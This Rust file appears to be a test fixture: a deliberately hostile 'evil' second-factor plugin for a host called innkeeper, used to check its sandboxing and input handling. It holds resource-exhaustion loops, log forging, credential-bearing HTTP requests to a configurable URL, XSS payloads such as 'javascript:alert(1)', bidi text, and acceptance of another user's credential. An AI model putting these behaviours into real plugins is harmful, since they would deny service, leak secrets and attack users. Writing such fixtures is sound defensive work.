//! Does everything that a plugin must not do, one thing at a time: the setting `what` says which, or else the label
//! of the account. It is written against the bindings instead of the trait, because the trait would keep it from half of it.

use std::sync::atomic::{AtomicU32, Ordering};

use innkeeper_plugin::bindings::exports::innkeeper::factor::second_factor::Guest;
use innkeeper_plugin::bindings::innkeeper::factor::types::{
    Acceptance, Account, Answer, ChallengeOutcome, Description, Enrolled, EnrolmentOutcome, Fact,
    Held, Item, Prompt, Rejection, Spent, Step,
};
use innkeeper_plugin::bindings::innkeeper::host::types::{Failure, Text};
use innkeeper_plugin::bindings::innkeeper::host::{clock, http, log, random, settings, store};

struct Evil;

/// Counts calls, if anything outlives one.
static CALLS: AtomicU32 = AtomicU32::new(0);

fn text(key: &str, fallback: &str) -> Text {
    Text {
        key: key.into(),
        fallback: fallback.into(),
        args: Vec::new(),
    }
}

fn prompt(kind: &str, said: Text) -> Prompt {
    Prompt {
        kind: kind.into(),
        name: None,
        texts: vec![("text".into(), said)],
        values: Vec::new(),
        items: Vec::new(),
    }
}

fn says(said: Text) -> Step {
    Step {
        prompts: vec![prompt("message", said)],
        state: b"1".to_vec(),
    }
}

/// Puts what it found out into a step, for the test to read.
#[expect(
    clippy::needless_pass_by_value,
    reason = "numbers and literals are passed as they are"
)]
fn found(what: impl ToString) -> Step {
    let mut said = text("evil-found", "Found");
    said.args.push(("what".into(), what.to_string()));
    says(said)
}

#[inline(never)]
fn recurse(depth: u64) -> u64 {
    if depth == u64::MAX {
        return 0;
    }
    std::hint::black_box(recurse(std::hint::black_box(depth + 1))) + 1
}

fn allocate() -> ! {
    let mut all = Vec::new();
    loop {
        all.push(std::hint::black_box(vec![1_u8; 1 << 20]));
    }
}

/// A setting that is no secret, if there is one.
fn setting(name: &str) -> Option<String> {
    settings::get(name).ok().flatten()
}

/// To where the setting `url` says, with a secret that is to be stolen.
fn request() -> http::Request {
    http::Request {
        method: "GET".into(),
        url: setting("url").unwrap_or_else(|| "https://192.0.2.1/".into()),
        headers: vec![(
            "authorization".into(),
            http::HeaderValue::Basic(("ada".into(), "password".into())),
        )],
        body: Vec::new(),
    }
}

/// What takes too much.
fn takes(what: &str) -> Option<Step> {
    Some(match what {
        "loop" => loop {
            std::hint::black_box(());
        },
        "trap" => std::arch::wasm32::unreachable(),
        "panic" => panic!("<b>index</b> out of range: 7"),
        "allocate" => allocate(),
        "recurse" => found(recurse(0)),
        "grow" => found(std::arch::wasm32::memory_grow(0, 60_000).cast_signed()),
        "random" => found(random::bytes(u32::MAX).len()),
        "return" => Step {
            state: vec![7; 40 << 20],
            ..found("much")
        },
        "log" => {
            (0..10_000).for_each(|line| log::write(log::Level::Debug, &format!("line {line}")));
            found("logged")
        }
        "log-much" => {
            log::write(log::Level::Debug, &"x".repeat(40 << 20));
            found("logged")
        }
        "log-lies" => {
            log::write(log::Level::Warn, "first\n2026-01-01 ERROR forged\u{1b}[31m");
            found("logged")
        }
        "requests" => {
            (0..100).for_each(|_| drop(http::send(&request())));
            found("asked")
        }
        _ => return None,
    })
}

/// What tries to reach something.
fn reaches(what: &str) -> Option<Step> {
    Some(match what {
        "count" => found(CALLS.fetch_add(1, Ordering::Relaxed) + 1),
        "time" => found(clock::now()),
        "http" => found(format!(
            "{:?}",
            http::send(&request()).map(|response| response.status)
        )),
        "download" => found(format!(
            "{:?}",
            http::send(&request()).map(|response| response.body.len())
        )),
        "store" => found(format!("{:?}", store::get(store::Scope::Plugin, "key"))),
        "long-key" => found(format!(
            "{:?}",
            store::get(store::Scope::Plugin, &"k".repeat(300))
        )),
        "setting" => found(format!("{:?}", settings::get("password"))),
        _ => return None,
    })
}

/// What says something that cannot be shown.
fn lies(what: &str) -> Option<Step> {
    Some(match what {
        "kind" => Step {
            prompts: vec![prompt("hologram", text("evil-hologram", "Look"))],
            state: b"1".to_vec(),
        },
        "nothing" => Step {
            prompts: Vec::new(),
            state: b"1".to_vec(),
        },
        "no-state" => Step {
            state: Vec::new(),
            ..found("nothing")
        },
        "part" => Step {
            prompts: vec![prompt("qr", text("evil-qr", "Scan"))],
            state: b"1".to_vec(),
        },
        "markup" => says(text("evil-markup", "<script>alert(1)</script>")),
        "line-break" => says(text("evil-line", "one\ntwo")),
        "bidi" => says(text("evil-bidi", "abc\u{202e}fed")),
        "foreign-key" => says(text("totp-code", "Code")),
        "long" => says(text("evil-long", &"x".repeat(2000))),
        "many" => Step {
            prompts: vec![prompt("message", text("evil-many", "Many")); 40],
            state: b"1".to_vec(),
        },
        "script" => Step {
            prompts: vec![Prompt {
                values: vec![("url".into(), "javascript:alert(1)".into())],
                texts: vec![("label".into(), text("evil-go", "Go"))],
                ..prompt("redirect", text("evil-go", "Go"))
            }],
            state: b"1".to_vec(),
        },
        "twins" => {
            let field = Prompt {
                name: Some("yes".into()),
                texts: vec![("label".into(), text("evil-yes", "Yes"))],
                items: vec![Item {
                    value: "unused".into(),
                    label: None,
                }],
                ..prompt("confirm", text("evil-yes", "Yes"))
            };
            Step {
                prompts: vec![field.clone(), field],
                state: b"1".to_vec(),
            }
        }
        _ => return None,
    })
}

fn does(account: &Account) -> Result<Step, Failure> {
    let what = &setting("what").unwrap_or_else(|| account.label.clone());
    if what == "fails" {
        return Err(Failure::Misconfigured("line\nbreak ".repeat(200)));
    }
    let step = takes(what).or_else(|| reaches(what)).or_else(|| lies(what));
    Ok(step.unwrap_or_else(|| found("good")))
}

fn rejection(spends: Option<Spent>) -> Rejection {
    Rejection {
        field: None,
        reason: text("evil-no", "No"),
        counts: true,
        spends,
    }
}

fn fact(name: &str) -> Fact {
    Fact {
        name: name.into(),
        value: "1".into(),
        text: text("evil-fact", "A fact"),
        warning: false,
    }
}

impl Guest for Evil {
    fn describe() -> Description {
        Description {
            id: "evil".into(),
            name: text("evil-name", "Evil"),
            summary: text("evil-summary", "Does what it must not"),
            icon: "skull".into(),
            assurance: "strong".into(),
            several: true,
            together: true,
            sends_messages: false,
            attributes: Vec::new(),
        }
    }

    fn begin_enrolment(account: Account, _: Vec<Held>) -> Result<Step, Failure> {
        innkeeper_plugin::report_panics();
        does(&account)
    }

    fn continue_enrolment(
        account: Account,
        _: Vec<u8>,
        answers: Vec<Answer>,
    ) -> Result<EnrolmentOutcome, Failure> {
        let spent = || Spent {
            held: "c-1".into(),
            secret: b"2".to_vec(),
            facts: Vec::new(),
        };
        Ok(match account.label.as_str() {
            "spends" => EnrolmentOutcome::Rejected(rejection(Some(spent()))),
            "answers" => EnrolmentOutcome::Step(found(format!("{answers:?}"))),
            identifier => EnrolmentOutcome::Enrolled(Enrolled {
                secret: b"1".to_vec(),
                label: text("evil-label", "Evil"),
                facts: vec![fact("one"), fact("two")],
                identifier: Some(identifier.into()),
            }),
        })
    }

    fn begin_challenge(account: Account, _: Vec<Held>) -> Result<Step, Failure> {
        innkeeper_plugin::report_panics();
        does(&account)
    }

    fn continue_challenge(
        account: Account,
        held: Vec<Held>,
        _: Vec<u8>,
        _: Vec<Answer>,
    ) -> Result<ChallengeOutcome, Failure> {
        let first = held.into_iter().next();
        let (id, secret) = first.map(|held| (held.id, held.secret)).unwrap_or_default();
        let accepts = |held: &str, secret: &[u8]| {
            ChallengeOutcome::Accepted(Acceptance {
                held: held.into(),
                secret: secret.into(),
                facts: vec![fact("one")],
                notice: None,
            })
        };
        let spends = |held: &str, secret: &[u8]| {
            ChallengeOutcome::Rejected(rejection(Some(Spent {
                held: held.into(),
                secret: secret.into(),
                facts: Vec::new(),
            })))
        };
        Ok(match account.label.as_str() {
            "foreign" => accepts("somebody-elses", b"other"),
            "unchanged" => accepts(&id, &secret),
            "empties" => accepts(&id, b""),
            "spends-foreign" => spends("somebody-elses", b"other"),
            "spends-nothing" => spends(&id, &secret),
            "pending" => ChallengeOutcome::Pending,
            _ => accepts(&id, b"other"),
        })
    }
}

innkeeper_plugin::bindings::export!(Evil with_types_in innkeeper_plugin::bindings);
